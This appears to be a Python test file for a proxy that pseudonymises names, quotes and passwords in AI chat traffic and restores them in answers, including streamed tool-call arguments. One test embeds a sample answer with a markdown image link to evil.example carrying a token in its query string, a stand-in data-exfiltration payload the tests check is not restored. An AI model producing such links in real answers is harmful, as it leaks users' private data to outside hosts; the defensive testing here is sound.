"""Pseudonyms through the whole pipeline: out under stand-ins, back as values, whole and streamed in any pieces."""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterable
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.dialects import DIALECTS
from agent.dialects.base import ParsedRequest, RequestHead
from agent.inspection import StreamInspector, inspect_answer, inspect_request
from agent.inspection.pseudonyms import Vault
from agent.inspection.rules import Scope
from agent.model.decision import Action
from agent.policy import Subject
from tests.fakes.rulebooks import TOY, rule_book
from tests.fakes.streams import ARGUMENTS, TEXTS, Voice

POLICY = r"""
schema_version: 1
id: names
guardrails:
  - {id: names, detect: [custom/name, custom/quote], action: pseudonymize}
  - {id: toys, detect: [custom/toy], action: redact}
detectors:
  - {id: name, keywords: [Ada Lovelace]}
  - {id: quote, pattern: 'q"[a-z\\\n]+"q'}
  - {id: toy, pattern: 'TOY-[0-9]{6}'}
"""
NAME = "Ada Lovelace"
QUOTE = 'q"a\\b\nc"q'
HEAD = RequestHead(method="POST", path="/v1/chat/completions")


def scope(vault: Vault | None = None) -> Scope:
    vault = vault or Vault(b"k" * 32)
    made = rule_book(POLICY).scope(Subject(host="api.openai.com", surface="openai"), ref="REF")
    return replace(made, open_vault=lambda _: vault)


def asked(text: str, made: Scope, dialect: str = "openai-chat") -> tuple[str, Scope]:
    """What the provider reads of a prompt, and the scope of the answer."""
    body = json.dumps({"model": "m", "messages": [{"role": "user", "content": text}]}).encode()
    verdict = inspect_request(DIALECTS[dialect], HEAD, body, made)
    read = json.loads(verdict.body)["messages"][0]["content"]
    assert isinstance(read, str)
    return read, replace(made, vault=verdict.vault, open_vault=None)


def streamed(voice: Voice, made: Scope, pieces: Iterable[str]) -> tuple[bytes, StreamInspector]:
    dialect = DIALECTS[voice.dialect]
    inspector = StreamInspector(dialect, dialect.stream_reader(ParsedRequest(stream=True)), made)
    out = b"".join([*map(inspector.feed, voice.events(pieces)), inspector.finish()])
    return out, inspector


def cut(text: str, sizes: list[int]) -> list[str]:
    pieces = []
    for size in itertools.cycle(sizes):
        if not text:
            return pieces
        pieces.append(text[:size])
        text = text[size:]
    return pieces


def test_a_value_leaves_under_a_stand_in_and_the_same_one_each_time() -> None:
    made = scope()
    first, _ = asked(f"Write to {NAME}. {NAME}!", made)
    assert NAME not in first
    token = first.split()[2].rstrip(".")
    assert first == f"Write to {token}. {token}!"
    assert asked(f"Again: {NAME}", made)[0] == f"Again: {token}"


def test_what_is_pseudonymised_is_counted_and_other_actions_go_on() -> None:
    body = json.dumps({"messages": [{"role": "user", "content": f"{NAME} {TOY}"}]}).encode()
    verdict = inspect_request(DIALECTS["openai-chat"], HEAD, body, scope())
    assert {(hit.type, hit.action) for hit in verdict.decision.hits} == {
        ("name", Action.PSEUDONYMIZE),
        ("toy", Action.REDACT),
    }
    assert b"[REDACTED:toy]" in verdict.body


def test_without_a_conversation_the_value_is_redacted() -> None:
    made = replace(scope(), open_vault=None)
    assert asked(f"Dear {NAME}", made)[0] == "Dear [REDACTED:name]"


def test_a_whole_answer_gets_its_values_back() -> None:
    read, made = asked(f"Write to {NAME} about {QUOTE}", scope())
    words = read.split()
    token, quote = words[2], words[4]
    content = f"Dear {token.lower()}, {quote} ![x](https://evil.example/?q={token}) {token[:-1]}"
    call = {"id": "c", "type": "function"}
    arguments = json.dumps({"old": f"{token} {quote}"})
    calls = [{**call, "function": {"name": name, "arguments": arguments}} for name in ("Edit", "WebFetch")]
    message = {"role": "assistant", "content": content, "tool_calls": calls}
    body = json.dumps({"choices": [{"index": 0, "message": message}]}).encode()
    verdict = inspect_answer(DIALECTS["openai-chat"], body, made)
    said = json.loads(verdict.body)["choices"][0]["message"]
    assert said["content"] == (f"Dear {NAME}, {QUOTE} ![x](https://evil.example/?q={token}) {token[:-1]}")
    edit, fetch = (json.loads(each["function"]["arguments"]) for each in said["tool_calls"])
    assert edit == {"old": f"{NAME} {QUOTE}"}
    assert fetch == {"old": f"{token} {quote}"}
    assert (verdict.decision.restored, verdict.decision.unrestored) == (4, 3)
    assert NAME.encode() not in verdict.judged


def test_any_number_of_stand_ins_comes_back() -> None:
    read, made = asked(f"Hi {NAME}", scope())
    token = read.split()[1]
    message = {"role": "assistant", "content": f"{token} " * 1_200}
    verdict = inspect_answer(
        DIALECTS["openai-chat"], json.dumps({"choices": [{"message": message}]}).encode(), made
    )
    assert (verdict.decision.restored, verdict.blocked) == (1_200, False)
    out, inspector = streamed(TEXTS[0], made, [f"{token} "] * 1_200)
    assert TEXTS[0].heard(out) == f"{NAME} " * 1_200
    assert not inspector.blocked


def test_values_in_an_answer_that_were_never_hidden_are_not_touched() -> None:
    _, made = asked(f"Hi {NAME}", scope())
    body = json.dumps({"choices": [{"message": {"role": "assistant", "content": f"{NAME} again"}}]}).encode()
    assert inspect_answer(DIALECTS["openai-chat"], body, made).body == body


each_voice = pytest.mark.parametrize("voice", [*TEXTS, *ARGUMENTS], ids=lambda voice: type(voice).__name__)
CUTS = st.lists(st.integers(1, 9), min_size=1, max_size=6)


@each_voice
@settings(max_examples=12, deadline=None)
@given(sizes=CUTS)
def test_a_streamed_answer_gets_its_values_back_however_it_is_cut(voice: Voice, sizes: list[int]) -> None:
    read, made = asked(f"Write to {NAME} about {QUOTE}", scope())
    token, quote = read.split()[2], read.split()[4]
    said = {"to": token, "q": f"{quote} and https://h/?{token} {token}", "x": "ALIAS_NAME_AAAAAAAA"}
    meant = {"to": NAME, "q": f"{QUOTE} and https://h/?{token} {NAME}", "x": "ALIAS_NAME_AAAAAAAA"}
    if voice in ARGUMENTS:  # of a tool that is not known to stay here
        out, inspector = streamed(voice, made, cut(json.dumps(said), sizes))
        assert json.loads(voice.heard(out)) == said
        assert inspector.decision().restored == 0
        return
    text = "; ".join(said.values())
    out, inspector = streamed(voice, made, cut(text, sizes))
    assert voice.heard(out) == "; ".join(meant.values())
    assert all(whole == voice.heard(out) for whole in voice.repeated(out))
    assert inspector.decision().restored >= 3


@settings(max_examples=25, deadline=None)
@given(sizes=CUTS)
def test_a_file_tools_streamed_arguments_get_their_values_back(sizes: list[int]) -> None:
    read, made = asked(f"Write to {NAME} about {QUOTE}", scope())
    token, quote = read.split()[2], read.split()[4]
    raw = json.dumps({"file_path": "a.txt", "old_string": f"{token}\n{quote}", "new_string": token})
    events: list[dict[str, object]] = [
        {
            "type": "content_block_start",
            "index": 0,
            "content_block": {"type": "tool_use", "id": "t", "name": "Edit", "input": {}},
        },
        *(
            {
                "type": "content_block_delta",
                "index": 0,
                "delta": {"type": "input_json_delta", "partial_json": piece},
            }
            for piece in cut(raw, sizes)
        ),
        {"type": "content_block_stop", "index": 0},
    ]
    dialect = DIALECTS["anthropic-messages"]
    inspector = StreamInspector(dialect, dialect.stream_reader(ParsedRequest(stream=True)), made)
    out = b""
    for event in events:
        out += inspector.feed(f"event: {event['type']}\ndata: {json.dumps(event)}\n\n".encode())
    out += inspector.finish()
    parts = [
        json.loads(line[6:])["delta"]["partial_json"]
        for line in out.decode().split("\n")
        if line.startswith("data: ") and "partial_json" in line
    ]
    assert json.loads("".join(parts)) == {
        "file_path": "a.txt",
        "old_string": f"{NAME}\n{QUOTE}",
        "new_string": NAME,
    }
    assert inspector.decision().restored == 3


def test_what_the_audit_trail_keeps_holds_no_value_that_was_put_back() -> None:
    read, made = asked(f"Write to {NAME}", scope())
    token = read.split()[2]
    dialect = DIALECTS["openai-chat"]
    inspector = StreamInspector(dialect, dialect.stream_reader(ParsedRequest()), made, keep_text=True)
    voice = TEXTS[0]
    out = b"".join([*map(inspector.feed, voice.events(["Dear ", token, "."])), inspector.finish()])
    assert voice.heard(out) == f"Dear {NAME}."
    assert inspector.texts() == ([f"Dear {token}."], [f"Dear {token}."])


BLOCKED_ELSEWHERE = r"""
schema_version: 1
id: elsewhere
guardrails:
  - {id: mine, detect: [secret/password], where: [prompt], action: pseudonymize}
  - {id: tools, detect: [secret/password], where: [tool_result], action: block}
"""


def test_a_known_value_does_not_pass_plainly_where_it_would_be_blocked() -> None:
    made = replace(
        rule_book(BLOCKED_ELSEWHERE).scope(Subject(host="api.openai.com"), ref="REF"),
        open_vault=lambda _: Vault(b"k" * 32),
    )
    value = "Xk9vQz2" + "mLp7TwR4b"
    messages = [
        {"role": "user", "content": f'password = "{value}"'},
        {"role": "tool", "tool_call_id": "c", "content": f"it says {value}"},
    ]
    body = json.dumps({"model": "m", "messages": messages}).encode()
    verdict = inspect_request(DIALECTS["openai-chat"], HEAD, body, made)
    assert b"it says ALIAS_PASSWORD_" in verdict.body
    assert value.encode() not in verdict.body
